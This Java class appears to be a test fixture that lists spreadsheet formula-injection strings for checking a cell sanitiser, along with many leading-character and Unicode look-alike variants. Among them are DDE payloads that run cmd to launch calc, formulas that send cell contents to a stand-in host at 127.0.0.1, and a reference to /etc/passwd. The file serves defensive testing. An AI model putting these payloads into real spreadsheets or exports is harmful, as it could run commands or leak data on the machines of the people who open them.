package id.sop.documents.tables;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/** Texts by which a cell is made to compute, call or run something; {@code CHOSEN} are seen in reports of attacks. */
final class FormulaAttacks {

    private static final List<String> CHOSEN = List.of(
            "=1+1",
            "=cmd|'/C calc'!A0",
            "=HYPERLINK(\"http://127.0.0.1/?x=\"&A1,\"Klik\")",
            "=WEBSERVICE(\"http://127.0.0.1/\"&A1)",
            "=IMPORTXML(CONCAT(\"http://127.0.0.1/?v=\",A1),\"//a\")",
            "=IMPORTDATA(\"http://127.0.0.1/\")",
            "=IMAGE(\"http://127.0.0.1/\"&A1)",
            "=DDE(\"cmd\";\"/C calc\";\"1\")",
            "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
            "=rundll32|'URL.dll,OpenURL calc.exe'!A",
            "='file:///etc/passwd'#$passwd.A1",
            "=SUM(1+1)*cmd|' /C calc'!A0",
            "=2+5+cmd|'/C calc'!A0",
            "=-1+1",
            "=@SUM(1)",
            "+1+1",
            "+cmd|'/C calc'!A0",
            "+62811000000",
            "+SUM(A1:A9)",
            "++1",
            "-1+1",
            "-2+3+cmd|'/C calc'!A0",
            "-5",
            "--1",
            "-SUM(A1)",
            "@SUM(1+1)*cmd|'/C calc'!A0",
            "@A1",
            "@@",
            "|cmd",
            "|'/C calc'!A0",
            "%cmd%",
            "%0A=1+1",
            "=",
            "+",
            "-",
            "@",
            "=\u00001+1",
            "=1+1\";=2+2",
            "\u22121+1",
            "\u207B1+1",
            "\u207A1+1",
            "\uFE621+1",
            "\uFE631+1",
            "\uFE661+1",
            "\uFE6BSUM(1)",
            "\uFF1D1+1",
            "\uFF0B1+1",
            "\uFF0D1+1",
            "\uFF20SUM(1)",
            "\uFF5Ccmd",
            "\uFF05cmd",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\r\n=1+1",
            "\u0000=1+1",
            "\tplain",
            "\rplain",
            "\nplain",
            "\u0000plain");

    private static final List<String> BEFORE = List.of(
            "\uFEFF",
            " ",
            "   ",
            "\u00A0",
            "\u3000",
            "\u2003",
            "\u200B",
            "\u200E",
            "\u202E",
            "\u0001",
            "\u007F",
            "\u0085",
            "\u2028",
            "\"",
            "'",
            "`",
            "\u2018",
            "\u201C",
            "\u00AB",
            "\uFEFF \"",
            "\" '",
            "\t \uFEFF\"");

    private FormulaAttacks() {}

    static List<String> all() {
        List<String> all = new ArrayList<>(CHOSEN);
        for (String before : BEFORE) {
            Stream.of("=1+1", "+1", "-1", "@A1", "|cmd", "%x", "\uFF1D1+1")
                    .map(before::concat)
                    .forEach(all::add);
        }
        return all;
    }
}
